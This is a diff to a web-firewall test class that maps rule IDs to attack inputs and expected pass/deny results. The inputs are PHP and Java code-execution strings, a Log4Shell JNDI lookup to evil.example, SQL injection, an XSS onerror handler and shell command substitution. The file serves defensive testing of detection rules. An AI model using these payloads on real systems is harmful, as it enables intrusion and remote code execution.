@@ -93,7 +93,7 @@ class AttacksPolicyTest {
             933110 => php://filter/convert.base64-encode/resource=index.php
             933120 => $_SERVER['HTTP_HOST']
             933150 => eval(base64_decode('ZWNobyAx'))
-            933150 => system('id')
+            933160 => system('id')
             933170 => O:8:"stdClass":1:{s:1:"a";s:1:"b";}
             944100 => java.lang.Runtime.getRuntime().exec('id')
             944150 => ${jndi:ldap://evil.example/a}
@@ -162,8 +162,8 @@ class AttacksPolicyTest {
             select name from users     | 2 | deny
             1 and sleep (5)            | 1 | pass
             1 and sleep (5)            | 2 | deny
-            x onerror=foo()            | 1 | pass
-            x onerror=foo()            | 2 | deny
+            x onerror=foo()            | 1 | deny
+            x onerror=foo              | 2 | deny
             $(touch /tmp/x)            | 1 | pass
             $(touch /tmp/x)            | 2 | deny
             """)
